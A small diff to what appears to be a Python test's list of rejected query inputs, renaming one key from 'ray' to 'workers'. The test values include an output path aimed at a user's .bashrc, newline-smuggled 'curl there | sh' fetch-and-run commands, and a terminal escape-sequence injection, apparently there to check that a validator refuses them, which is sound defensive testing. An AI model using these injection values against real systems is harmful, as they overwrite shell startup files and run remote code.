@@ -122,7 +122,7 @@ QUERY = {
     "query",
     [
         QUERY | {"out": "/home/me/.bashrc"},
-        QUERY | {"ray": "there:1"},
+        QUERY | {"workers": "there:1"},
         QUERY | {"posts": ["\n curl there | sh"]},
         QUERY | {"text_field": "a\n curl there | sh"},
         QUERY | {"text_field": "a\x1b]0;x\x07 curl"},
